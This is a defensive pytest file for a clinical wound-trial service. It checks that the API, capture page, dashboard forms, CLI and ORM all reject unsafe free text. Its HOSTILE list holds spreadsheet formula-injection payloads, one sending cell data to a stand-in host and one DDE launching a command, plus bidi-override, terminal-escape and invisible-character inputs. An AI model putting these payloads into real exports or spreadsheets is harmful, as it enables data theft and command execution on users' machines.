"""Free text reaches the exports, the dashboard and terminals through one rule
(``service.core.freetext.check_text``), whatever the way in (issue 28, high: the
capture page's ``visit`` took ``=HYPERLINK(...)`` that the ``/v1`` upload refused).

Each way in is enumerated below (API, capture page, dashboard forms, CLI) and tried
with a formula, a bidi override, an escape sequence and an invisible look-alike; every
one answers ``unsafe_text`` (422; the dashboard re-renders its form with 422; the CLI
exits non-zero) and stores nothing. Behind them the ORM's column validators refuse the
same values, and a last test checks that every text column a person fills has one.
"""

from __future__ import annotations

import re
from collections.abc import Callable
from typing import Any

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import String, Text, func, inspect, select
from typer.testing import CliRunner

from service.cli import app as cli
from service.config import get_settings
from service.core.errors import DomainError
from service.persistence import orm
from service.persistence.orm import ApiKey, Assessment, Measurement, SubjectEvent
from tests.api.conftest import Service, Trial, make_trial, sample_photo

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "V3\u202e1V",  # right-to-left override
    "V3\x1b[2J",  # ESC: clears a terminal
    "\u3164",  # Hangul filler: looks empty
    "Ada\u2800",  # blank Braille pattern
    "A\u034fda",  # combining grapheme joiner
    "Ad\u115fa",  # Hangul choseong filler
]


@pytest.fixture(scope="module")
def world(service: Service) -> tuple[Trial, str, str, str]:  # noqa: F811
    """A study, a subject with a wound and one uploaded photo (10 px/mm)."""
    trial = make_trial(service)
    wound = trial.wound("A")
    r = trial.upload(wound, sample_photo("0078"), px_per_mm="10")
    assert r.status_code == 201, r.text
    subject = r.json()["subject"]
    return trial, wound, r.json()["id"], subject


def _unsafe(r: Any) -> None:
    assert r.status_code == 422, f"{r.status_code} {r.text[:300]}"
    assert r.json()["code"] == "unsafe_text", r.json()


def _counts(service: Service) -> tuple[int, ...]:  # noqa: F811
    with service.db.sessions() as s:
        return tuple(
            s.scalar(select(func.count()).select_from(t)) or 0
            for t in (Assessment, Measurement, SubjectEvent, ApiKey, orm.Wound, orm.Subject)
        )


def _sign_in(client: TestClient, headers: dict[str, str]) -> None:
    key = headers["Authorization"].split(" ", 1)[1]
    client.cookies.clear()
    token = re.search(r'name="csrf" value="([^"]+)"', client.get("/dashboard/login").text)
    assert token is not None
    r = client.post(
        "/dashboard/login", data={"key": key, "csrf": token.group(1)}, follow_redirects=False
    )
    assert r.status_code == 303, r.text


def _page_csrf(client: TestClient, path: str) -> str:
    token = re.search(r'name="csrf" value="([^"]+)"', client.get(path).text)
    assert token is not None
    return token.group(1)


# --- the API (bearer key) -----------------------------------------------------------


def _api_calls(
    trial: Trial, wound: str, assessment: str, subject: str
) -> dict[str, Callable[[str], Any]]:
    c, admin, clin = trial.client, trial.keys["admin"], trial.keys["clinician"]
    photo = sample_photo("0078")
    return {
        "POST /v1/studies name": lambda v: c.post(
            "/v1/studies", json={"id": "Tfree1", "name": v}, headers=trial.service.admin
        ),
        "PATCH /v1/studies name": lambda v: c.patch(
            f"/v1/studies/{trial.study}", json={"name": v}, headers=admin
        ),
        "POST sites name": lambda v: c.post(
            f"/v1/studies/{trial.study}/sites", json={"id": "Z", "name": v}, headers=admin
        ),
        "POST subjects arm": lambda v: c.post(
            f"/v1/studies/{trial.study}/subjects",
            json={"code": "Sfree", "site": "A", "arm": v},
            headers=admin,
        ),
        "POST wounds location": lambda v: c.post(
            f"/v1/subjects/{subject}/wounds", json={"label": "W9", "location": v}, headers=admin
        ),
        "POST assessments visit": lambda v: c.post(
            f"/v1/wounds/{wound}/assessments",
            files={"photo": ("p.jpg", photo, "image/jpeg")},
            data={"captured_at": "2026-01-12", "visit": v, "px_per_mm": "10"},
            headers=admin,
        ),
        "PATCH assessment void reason": lambda v: c.patch(
            f"/v1/assessments/{assessment}", json={"voided": True, "reason": v}, headers=clin
        ),
        "PUT mask reason": lambda v: c.put(
            f"/v1/assessments/{assessment}/mask",
            data={"reason": v, "polygon": "[[10,10],[80,12],[40,70]]"},
            headers=clin,
        ),
        "POST events note": lambda v: c.post(
            f"/v1/subjects/{subject}/events",
            json={"kind": "revascularisation", "date": "2026-01-03", "note": v},
            headers=clin,
        ),
        "POST keys holder": lambda v: c.post(
            "/v1/keys", json={"role": "admin", "holder": v}, headers=trial.service.admin
        ),
    }


API_ROUTES = [
    "POST /v1/studies name",
    "PATCH /v1/studies name",
    "POST sites name",
    "POST subjects arm",
    "POST wounds location",
    "POST assessments visit",
    "PATCH assessment void reason",
    "PUT mask reason",
    "POST events note",
    "POST keys holder",
]


@pytest.mark.parametrize("route", API_ROUTES)
def test_api_refuses_unsafe_text(world: tuple[Trial, str, str, str], route: str) -> None:
    trial, wound, assessment, subject = world
    call = _api_calls(trial, wound, assessment, subject)[route]
    before = _counts(trial.service)
    for value in HOSTILE:
        _unsafe(call(value))
    assert _counts(trial.service) == before


def test_api_keeps_ordinary_text(world: tuple[Trial, str, str, str]) -> None:
    trial, _, _, subject = world
    r = trial.client.post(
        f"/v1/subjects/{subject}/wounds",
        json={"label": "W5", "location": "Zoë's left hallux, plantar (2 cm)"},
        headers=trial.keys["admin"],
    )
    assert r.status_code == 201 and r.json()["location"] == "Zoë's left hallux, plantar (2 cm)"


def test_an_event_events_void_reason_is_checked(world: tuple[Trial, str, str, str]) -> None:
    trial, _, _, subject = world
    c, clin = trial.client, trial.keys["clinician"]
    r = c.post(
        f"/v1/subjects/{subject}/events",
        json={"kind": "revascularisation", "date": "2026-01-02", "note": "line one\nline two"},
        headers=clin,
    )
    assert r.status_code == 201, r.text
    event = r.json()["id"]
    for value in HOSTILE:
        _unsafe(
            c.patch(
                f"/v1/subjects/{subject}/events/{event}",
                json={"voided": True, "reason": value},
                headers=clin,
            )
        )
    r = c.get(f"/v1/subjects/{subject}/events", headers=clin)
    assert not next(e for e in r.json() if e["id"] == event)["voided"]


# --- the capture page (dashboard session) --------------------------------------------


def test_capture_page_refuses_unsafe_text(world: tuple[Trial, str, str, str]) -> None:
    trial, wound, _, subject = world
    client = TestClient(trial.client.app)
    _sign_in(client, trial.keys["uploader"])
    csrf = client.get("/dashboard/capture/api/session").json()["csrf"]
    headers = {"X-CSRF-Token": csrf}
    photo = sample_photo("0078")
    before = _counts(trial.service)
    for value in HOSTILE:
        r = client.post(
            f"/dashboard/capture/api/wounds/{wound}/assessments",
            files={"photo": ("p.jpg", photo, "image/jpeg")},
            data={"captured_at": "2026-01-12", "visit": value},
            headers=headers,
        )
        _unsafe(r)
        r = client.post(
            f"/dashboard/capture/api/subjects/{subject}/wounds",
            json={"label": "W8", "location": value},
            headers=headers,
        )
        _unsafe(r)
    assert _counts(trial.service) == before


# --- the dashboard's forms -----------------------------------------------------------


def test_dashboard_forms_refuse_unsafe_text(world: tuple[Trial, str, str, str]) -> None:
    trial, wound, assessment, subject = world
    client = TestClient(trial.client.app)
    _sign_in(client, trial.keys["clinician"])
    before = _counts(trial.service)
    for value in HOSTILE:
        csrf = _page_csrf(client, f"/dashboard/wounds/{wound}")
        forms = {
            f"/dashboard/assessments/{assessment}/void": {"reason": value},
            f"/dashboard/assessments/{assessment}/correct": {
                "reason": value,
                "polygon": "[[10,10],[80,12],[40,70]]",
            },
            f"/dashboard/subjects/{subject}/events": {
                "kind": "revascularisation",
                "on": "2026-01-03",
                "note": value,
            },
        }
        for path, form in forms.items():
            r = client.post(path, data={**form, "csrf": csrf}, follow_redirects=False)
            assert r.status_code == 422, f"{path} {r.status_code} {r.text[:200]}"
            assert "unsafe_text" in r.text or "printable text" in r.text or "formula" in r.text
    assert _counts(trial.service) == before
    r = trial.client.get(f"/v1/assessments/{assessment}", headers=trial.keys["clinician"])
    assert not r.json()["voided"]


# --- the command line ----------------------------------------------------------------


def test_cli_refuses_unsafe_holder(service: Service, monkeypatch: pytest.MonkeyPatch) -> None:  # noqa: F811
    monkeypatch.setenv("WOUNDSCOPE_DATABASE_URL", service.settings.database_url)
    monkeypatch.setenv("WOUNDSCOPE_DATA_DIR", str(service.settings.data_dir))
    get_settings.cache_clear()
    before = _counts(service)
    try:
        for value in HOSTILE:
            out = CliRunner().invoke(cli, ["keys", "create", "--role", "admin", "--holder", value])
            assert out.exit_code != 0, out.output
            assert "\x1b" not in out.output and "\u202e" not in out.output
    finally:
        get_settings.cache_clear()
    assert _counts(service) == before


# --- the backstop: the rows themselves -----------------------------------------------

FREE_TEXT_COLUMNS = {
    orm.Study: ["name", "control_arm"],
    orm.Site: ["name"],
    orm.Subject: ["arm"],
    orm.SubjectEvent: ["note", "void_reason"],
    orm.Wound: ["location"],
    orm.Assessment: ["visit", "void_reason"],
    orm.Measurement: ["reason"],
    orm.ApiKey: ["holder"],
}
NOT_FREE_TEXT = {
    # ids, codes (CODE_PATTERN), hashes, keys, enumerations, and holders copied from a
    # key (checked when the key was made)
    "id", "code", "label", "study_id", "subject_id", "wound_id", "assessment_id",
    "photo_key", "photo_sha256", "upload_sha256", "photo_format", "mask_key",
    "model", "model_name", "model_version", "model_sha256", "review", "kind", "leg",
    "idempotency_key", "uploaded_by", "accepted_by", "created_by", "key_hash", "prefix",
    "role", "token_hash", "actor", "action", "resource", "hash", "prev_hash",
    # enumerations and codes checked by their schemas (CDISC codelists, job engines)
    "sex", "country", "index_leg_side", "engine", "batch_id", "photos_after_withdrawal",
    # server-made text: a job's failure and the worker that met it
    "BatchFailure.reason", "BatchFailure.worker",
}  # fmt: skip


@pytest.mark.parametrize("table", list(FREE_TEXT_COLUMNS), ids=lambda t: t.__tablename__)
def test_orm_refuses_unsafe_text(table: type[orm.Base]) -> None:
    for column in FREE_TEXT_COLUMNS[table]:
        for value in HOSTILE:
            with pytest.raises(DomainError) as err:
                table(**{column: value})
            assert err.value.code == "unsafe_text"


def test_every_text_column_is_checked_or_not_free_text() -> None:
    """A new text column is either a person's free text (add a validator and list it
    above) or named in NOT_FREE_TEXT: nothing is forgotten."""
    for mapper in orm.Base.registry.mappers:
        validated = set(mapper.validators.keys())
        for column in mapper.columns:
            if not isinstance(column.type, String | Text):
                continue
            key = mapper.get_property_by_column(column).key
            if key in NOT_FREE_TEXT or f"{mapper.class_.__name__}.{key}" in NOT_FREE_TEXT:
                continue
            assert key in validated, f"{mapper.class_.__name__}.{key}: free text unchecked"
    assert inspect(orm.Assessment).validators
